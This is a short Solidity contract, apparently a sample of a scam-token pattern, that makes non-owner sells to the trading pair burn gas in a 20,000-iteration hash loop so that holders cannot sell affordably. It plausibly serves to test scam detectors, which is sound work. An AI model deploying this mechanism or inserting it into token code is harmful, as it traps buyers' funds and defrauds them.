// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./BaseToken.sol";

/// Sells work but burn ~2M gas in a loop (a pattern that makes sells fail at normal gas limits or cost a fortune).
contract GasGriefToken is BaseToken {
    address public pair;
    uint256 private sink;

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        _init(name_, symbol_, supply, msg.sender);
    }

    function setPair(address pair_) external onlyOwner {
        pair = pair_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner) {
            uint256 h = sink;
            for (uint256 i = 0; i < 20_000; i++) h = uint256(keccak256(abi.encode(h, i)));
            sink = h;
        }
        _move(from, to, value);
    }
}
